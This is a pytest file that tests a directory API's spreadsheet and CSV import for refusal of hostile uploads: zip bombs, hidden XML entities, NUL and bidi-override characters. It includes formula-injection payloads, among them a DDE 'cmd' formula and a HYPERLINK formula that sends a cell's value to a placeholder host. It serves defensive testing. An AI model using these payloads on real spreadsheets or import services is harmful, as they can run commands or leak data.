"""Files nobody should send, through the front door: refused, or told row by row, and nothing half done stays."""

import asyncio
import io
import json
import zipfile
from collections.abc import AsyncIterator, Callable, Mapping
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
import pytest_asyncio

from api import edge, sheets
from api.sheets import CSV, XLSX
from deploy.runtime.postgres import Postgres
from tests.api_support import Door, open_door, temporal_away
from tests.served import served
from tests.sheet_support import workbook
from tests.test_directory_api import bring_in, count
from tests.test_wire import head_of, raw

pytestmark = pytest.mark.servers

HEAD = ["area_code", "name", "unit_code", "collaborator"]
MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"


@pytest_asyncio.fixture(scope="module")
async def door(postgres: Postgres, key_file: Path) -> AsyncIterator[Door]:
    async with open_door(postgres, await temporal_away(key_file)) as made:
        yield made


def rebuilt(change: Callable[[str, bytes], tuple[str, bytes]], more: Mapping[str, bytes] | None = None) -> bytes:
    """A workbook whose parts are changed, or have others beside them."""
    out = io.BytesIO()
    good = workbook(HEAD, ["K-1", "Thôn Một", "HN-A", ""])
    with zipfile.ZipFile(io.BytesIO(good)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(*change(name, old.read(name)))
        for name, content in (more or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def with_sheet(rows: bytes) -> bytes:
    sheet = b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (MAIN, rows)
    return rebuilt(lambda name, content: (name, sheet if name == SHEET else content))


def cells(*texts: bytes) -> bytes:
    return b"<row>" + b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % text for text in texts) + b"</row>"


def hidden_entities() -> bytes:
    """Entities in a part whose name does not say that it is XML."""
    entity = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "%s">]>'
        b'<worksheet xmlns="%s"><sheetData>%s%s</sheetData></worksheet>'
        % (b"A" * 100, MAIN, cells(*(one.encode() for one in HEAD)), cells(b"K-1", b"&a;", b"HN-A", b""))
    )

    def change(name: str, content: bytes) -> tuple[str, bytes]:
        if name == SHEET:
            return "xl/worksheets/sheet1.bin", entity
        return name, content.replace(b"sheet1.xml", b"sheet1.bin")

    return rebuilt(change)


ZEROS = rebuilt(lambda name, content: (name, content), {"xl/media/a.png": bytes(900 * 1024 * 1024)})
ALL_ROWS = with_sheet(cells(*(one.encode() for one in HEAD)) + cells(b"K", b"a", b"HN-A", b"") * 100_000)


@pytest.mark.parametrize(
    ("body", "kind", "code"),
    [
        pytest.param(ZEROS, XLSX, "file-unpacks-too-large", id="900 MiB of zeros"),
        pytest.param(rebuilt(lambda n, c: (n, c), {f"x/{n}": b"" for n in range(300)}), XLSX, "file-unpacks-too-large",
                     id="300 parts"),
        pytest.param(hidden_entities(), XLSX, "file-not-readable", id="entities in a part of another name"),
        pytest.param(ALL_ROWS, XLSX, "too-many-rows", id="100,000 rows"),
        pytest.param(b"a,b\n" * 100_000, CSV, "too-many-rows", id="100,000 lines"),
        pytest.param(b"\n" * 1_000_000, CSV, "too-many-rows", id="a million empty lines"),
        pytest.param(b"," * 1_000_000, CSV, "cell-too-long", id="a million columns"),
        pytest.param(with_sheet(cells(b"a&#0;b")), XLSX, "file-not-readable", id="NUL in XML"),
        pytest.param(with_sheet(b"<row>"), XLSX, "file-not-readable", id="broken off within"),
        pytest.param(workbook(HEAD)[:-400], XLSX, "file-not-readable", id="an archive without its end"),
    ],
)  # fmt: skip
async def test_a_file_beyond_all_bounds_is_refused_before_anything_is_read(
    door: Door, body: bytes, kind: str, code: str
) -> None:
    assert len(body) <= edge.BODY_LIMIT
    before = await count(door)
    answer = await bring_in(door, "areas", body, kind)
    assert (answer.status_code, answer.json()["errors"]) == (422, [{"path": ["body"], "code": code}])
    assert await count(door) == before


async def test_100_000_rows_as_text_are_more_than_is_taken(door: Door) -> None:
    rows = "".join(f"K-{number},Thôn,HN-A,\n" for number in range(100_000))
    answer = await bring_in(door, "areas", (",".join(HEAD) + "\n" + rows).encode())
    assert (answer.status_code, answer.json()["code"]) == (413, "body-too-large")


def code_of(told: dict[str, Any]) -> set[tuple[int, str | None, str]]:
    assert told["applied"] is False
    return {(one["row"], one["column"], one["code"]) for one in told["errors"]}


async def test_a_formula_is_no_value_and_is_named_where_it_stands(door: Door) -> None:
    before = await count(door)
    body = workbook(
        HEAD,
        ["K-F1", '=HYPERLINK("https://a.example/?"&A1)', "HN-A", "Lan"],
        ["=1+1", "Thôn Hai", "HN-A", None],
        ["K-F3", "Thôn Ba", "HN-A", "=cmd|' /C calc'!A0"],
        ["K-F4", "Thôn Bốn", "HN-A", "Mai"],
    )
    told = (await bring_in(door, "areas", body, XLSX)).json()
    assert code_of(told) == {(2, "name", "formula"), (3, "area_code", "formula"), (4, "collaborator", "formula")}
    assert await count(door) == before
    in_head = workbook(["=1", *HEAD[1:]], ["K", "Thôn", "HN-A", None])
    assert (1, "area_code", "column-missing") in code_of((await bring_in(door, "areas", in_head, XLSX)).json())


async def test_what_would_be_a_formula_in_a_text_file_stays_text_wherever_it_goes(door: Door) -> None:
    area, name = f"K-{uuid4().hex[:6]}", "=cmd|' /C calc'!A0"
    body = f'{",".join(HEAD)}\n{area},"{name}",HN-A,@SUM(1)\n'
    assert (await bring_in(door, "areas", body.encode())).json()["applied"] is True
    (row,) = await door.sql(
        "SELECT p.name FROM area_place p JOIN residential_area a ON a.id = p.area_id WHERE a.code = :code", code=area
    )
    assert row["name"] == name
    for kind in ("csv", "xlsx"):
        out = await door.get("admin", "/directory/exports", params={"sheet": "areas", "kind": kind})
        text = out.content.decode("utf-8-sig") if kind == "csv" else ""
        assert "\n=" not in text
        assert ",=" not in text
        assert ",@" not in text
        told = sheets.read(out.headers["content-type"].split(";")[0], out.content)
        assert not told.formulas
        assert [name in line and "@SUM(1)" in line for line in told.cells if line[0] == area] == [True]


async def test_characters_nobody_can_store_are_named_and_all_others_are_kept(door: Door) -> None:
    before = await count(door)
    area = f"K-{uuid4().hex[:6]}"
    said = {"K-N1": "Thôn\0Một", "K-N2": "Thôn \x07 Hai", "K-N3": "Thôn \u202e Ba"}
    rows = "".join(f"{code},{name},HN-A,\n" for code, name in said.items())
    told = (await bring_in(door, "areas", f"{','.join(HEAD)}\n{rows}".encode())).json()
    found = code_of(told)
    assert (2, "name", "text-not-storable") in found
    assert {code for _, _, code in found} == {"text-not-storable"}
    assert (await bring_in(door, "areas", f"{','.join(HEAD)}\n😀,Thôn,HN-A,\n".encode())).json()["errors"][0][
        "code"
    ] == "code-format"
    assert await count(door) == before

    name = "Thôn Lúa 🌾 👩🏽‍🌾"
    for kind, body in (
        (CSV, f"{','.join(HEAD)}\n{area},{name},HN-A,Nguyễn Thị 😀\n".encode()),
        (XLSX, workbook(HEAD, [area, name, "HN-A", "Nguyễn Thị 😀"])),
    ):
        told = (await bring_in(door, "areas", body, kind)).json()
        assert (told["applied"], told["errors"]) == (True, [])
    (row,) = await door.sql(
        "SELECT p.name FROM area_place p JOIN residential_area a ON a.id = p.area_id WHERE a.code = :code", code=area
    )
    assert row["name"] == name


@pytest.mark.parametrize("kind", [CSV, XLSX])
async def test_wrong_columns_are_told_and_no_row_is_looked_at(door: Door, kind: str) -> None:
    lines = [["name", "Tên khu dân cư", "salary", "collaborator"], ["K-1", "Thôn", "HN-A", "x"]]
    body = workbook(*lines) if kind == XLSX else "\n".join(",".join(line) for line in lines).encode()
    told = (await bring_in(door, "areas", body, kind)).json()
    assert code_of(told) == {
        (1, "name", "column-twice"), (1, "#3", "column-unknown"), (1, "area_code", "column-missing"),
        (1, "unit_code", "column-missing"),
    }  # fmt: skip
    assert told["rows"] == [{"row": 1, "outcome": "refused"}]
    swapped = (await bring_in(door, "providers", body, kind)).json()
    assert "column-missing" in {code for _, _, code in code_of(swapped)}
    for empty in (b"\xef\xbb\xbf", b"\n\n"):
        assert {code for _, _, code in code_of((await bring_in(door, "areas", empty)).json())} <= {
            "empty", "column-missing",
        }  # fmt: skip


async def test_of_very_many_faults_the_first_are_told_and_how_many_there_are(door: Door) -> None:
    body = ",".join(HEAD) + "\n" + "!,,!,\n" * sheets.MOST_ROWS
    answer = await bring_in(door, "areas", body.encode())
    told = answer.json()
    assert told["applied"] is False
    assert told["errors_in_all"] == 3 * sheets.MOST_ROWS
    assert len(told["errors"]) == 500
    assert told["errors"][0]["row"] == 2
    assert len(answer.content) < 1024 * 1024


async def test_as_many_rows_as_are_taken_are_taken_in_one_act(door: Door) -> None:
    mark, before = uuid4().hex[:4], await count(door)
    rows = "".join(f"{mark}-{number},Thôn {number},HN-A,Lan {number}\n" for number in range(sheets.MOST_ROWS))
    told = (await bring_in(door, "areas", (",".join(HEAD) + "\n" + rows).encode())).json()
    assert (told["applied"], told["outcomes"]["added"]) == (True, sheets.MOST_ROWS)
    assert sum(await count(door)) == sum(before) + 3 * sheets.MOST_ROWS


async def test_a_line_that_breaks_off_half_way_through_the_file_leaves_nothing(
    door: Door, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(edge, "PATIENCE", 0.3)
    body = (",".join(HEAD) + "\n" + "".join(f"K-B{n},Thôn,HN-A,\n" for n in range(500))).encode()
    token, before = await door.sign_in("admin"), await count(door)
    asked = head_of(
        "POST", "/api/v1/directory/imports?sheet=areas&dry_run=false", f"Authorization: Bearer {token}",
        f"Content-Type: {CSV}", f"Content-Length: {len(body)}",
    )  # fmt: skip
    async with served(door.app, door.app.state.door.settings) as port:
        head, said = await raw(port, asked + body[: len(body) // 2])  # it stops coming
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(asked + body[: len(body) // 2])
        await writer.drain()
        writer.close()  # and it is gone
        await writer.wait_closed()
    assert head.startswith(b"HTTP/1.1 408 ")
    assert json.loads(said)["code"] == "body-too-slow"
    assert await count(door) == before


async def test_an_import_that_fails_half_way_is_undone_and_goes_in_when_it_is_sent_again(door: Door) -> None:
    mark = uuid4().hex[:6]
    body = ",".join(HEAD) + "\n" + "".join(f"{mark}-{n},Thôn {n},HN-A,Người {n}\n" for n in range(50))
    before = await count(door)
    await door.sql(
        "CREATE FUNCTION fails_here() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
        "IF NEW.full_name = 'Người 30' THEN RAISE EXCEPTION 'the disk is full' USING ERRCODE = 'disk_full'; END IF; "
        "RETURN NEW; END $$"
    )
    await door.sql("CREATE TRIGGER fails_here BEFORE INSERT ON collaborator FOR EACH ROW EXECUTE FUNCTION fails_here()")
    failed = await bring_in(door, "areas", body.encode())
    await door.sql("DROP TRIGGER fails_here ON collaborator")
    assert (failed.status_code, failed.json()["code"]) == (503, "database-away")
    assert await count(door) == before, "half of it stayed"
    assert "Người" not in failed.text
    assert (await door.sql("SELECT count(*) AS n FROM residential_area WHERE code LIKE :mark", mark=f"{mark}%"))[0][
        "n"
    ] == 0
    told = (await bring_in(door, "areas", body.encode())).json()
    assert (told["applied"], told["outcomes"]["added"]) == (True, 50)


async def test_the_same_file_sent_twice_at_once_goes_in_once(door: Door) -> None:
    mark, before = uuid4().hex[:6], await count(door)
    body = (",".join(HEAD) + "\n" + "".join(f"{mark}-{n},Thôn {n},HN-A,Người {n}\n" for n in range(100))).encode()
    await door.sign_in("admin")
    answers = [one.json() for one in await asyncio.gather(*(bring_in(door, "areas", body) for _ in range(4)))]
    assert sorted(one["outcomes"]["added"] for one in answers) == [0, 0, 0, 100]
    assert sum(await count(door)) == sum(before) + 300
